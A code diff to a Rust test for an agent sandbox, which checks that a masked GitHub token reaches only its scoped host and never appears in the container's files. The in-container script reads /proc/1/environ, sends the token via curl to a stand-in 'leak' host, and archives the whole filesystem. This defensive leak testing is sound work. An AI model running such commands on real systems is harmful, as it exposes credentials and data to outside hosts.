@@ -512,7 +512,8 @@ async fn masked_secret_reaches_only_its_scoped_host_and_never_the_container_or_l
         tr '\\0' '\\n' < /proc/1/environ | sed 's/^/pid1: /'\n\
         env | sed 's/^/env: /'\n\
         echo \"scoped=$(curl -sS --max-time 60 -H \"Authorization: Bearer $GH_TOKEN\" https://api.example.test/repos 2>&1)\"\n\
-        echo \"other=$(curl -sS --max-time 60 -H \"Authorization: Bearer $GH_TOKEN\" https://other.example.test/leak 2>&1)\"\n";
+        echo \"other=$(curl -sS --max-time 60 -H \"Authorization: Bearer $GH_TOKEN\" https://other.example.test/leak 2>&1)\"\n\
+        tar -C / --exclude=./proc --exclude=./sys --exclude=./dev --exclude=./outbox -cf /outbox/rootfs.tar . 2>/dev/null; echo \"tar-exit=$?\"\n";
     let (result, out, evs) = sb.run(true, script).await;
     assert_eq!(result.outcome, airut::sandbox::Outcome::Success, "{evs:#?}");
     assert_eq!(field(&out, "token="), surrogate);
@@ -532,6 +533,25 @@ async fn masked_secret_reaches_only_its_scoped_host_and_never_the_container_or_l
             "the container saw the real secret: {l}"
         );
     }
+    // Every file of the container (its image, the mounts, what the agent
+    // wrote), archived from inside to the host: the real value is in none.
+    let tarball = sb.c.mounts.outbox.join("rootfs.tar");
+    let size = std::fs::metadata(&tarball).map(|m| m.len()).unwrap_or(0);
+    assert!(
+        size > 1_000_000,
+        "the container's files were archived ({size} bytes): {out:#?}"
+    );
+    let grep = std::process::Command::new("grep")
+        .args(["-c", "-F", "-a", REAL_SECRET])
+        .arg(&tarball)
+        .output()
+        .expect("grep");
+    assert_eq!(
+        String::from_utf8_lossy(&grep.stdout).trim(),
+        "0",
+        "the real secret is in a file of the container"
+    );
+    let _ = std::fs::remove_file(&tarball);
     assert!(field(&out, "scoped=").contains("\"ok\":true"), "{out:#?}");
     assert!(field(&out, "other=").contains("\"ok\":true"), "{out:#?}");
     let mut up = sb.upstream;
